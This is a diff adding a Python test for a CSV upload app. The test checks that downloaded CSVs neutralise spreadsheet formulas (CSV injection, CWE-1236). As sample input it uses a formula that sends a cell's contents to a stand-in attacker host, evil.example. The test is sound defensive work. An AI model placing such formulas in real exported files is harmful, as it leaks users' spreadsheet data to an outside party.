@@ -196,3 +196,23 @@ def test_a_table_duckdb_cannot_read_is_a_message_not_a_crash(app_settings, popul
     r = upload(login(app_settings, "lead"), "名单.csv", csv_bytes(population[0]))
     assert r.status_code == 422 and "表无法读取：Error when sniffing file" in r.text
     assert "名单.csv" in r.text and "/tmp" not in r.text and "more detail" not in r.text
+
+
+def test_downloaded_csvs_keep_formulas_as_text(app_settings, population):
+    """A name or a cell a spreadsheet would run as a formula is written with a leading
+    apostrophe in results.csv and problems.csv (CWE-1236); Parquet keeps the value as given."""
+    import pyarrow as pa
+
+    facts = population[0].to_pylist()
+    formula = '=HYPERLINK("http://evil.example/?"&A1)'
+    facts[0]["name"] = formula
+    facts[1]["ip_specialists"] = "-1+2"     # a bad cell, reported in problems.csv
+    table = pa.Table.from_pylist([{k: (str(v) if v is not None else None) for k, v in f.items()} for f in facts])
+    c = login(app_settings, "lead")
+    r = upload(c, "formula.csv", csv_bytes(table))
+    assert r.status_code == 303, r.text
+    rows = {x["credit_code"]: x for x in results_csv(c, r.headers["location"])}
+    assert rows[facts[0]["credit_code"]]["name"] == "'" + formula
+    problems = c.get(r.headers["location"] + "/problems.csv").text
+    assert facts[1]["credit_code"] in problems and "=HYPERLINK" not in problems
+    assert not any(line.startswith(("=", "+", "-", "@")) for line in problems.splitlines())
